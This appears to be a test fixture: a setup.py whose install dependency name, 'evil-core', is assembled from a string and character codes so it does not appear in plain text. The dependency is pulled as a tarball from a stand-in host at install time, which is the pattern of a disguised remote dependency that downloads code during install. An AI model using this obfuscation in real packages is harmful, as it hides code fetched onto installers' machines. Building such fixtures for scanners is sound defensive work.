from setuptools import setup
q = "evil"
w = 'x' * 3
zz = [99, 111, 114, 101]
e = "".join(chr(c) for c in zz)
setup(name="install-computed-dependency", version="1.0.0", install_requires=[f"{q}-{e} @ https://pkgs.example.invalid/{q}-{e}.tar.gz"])
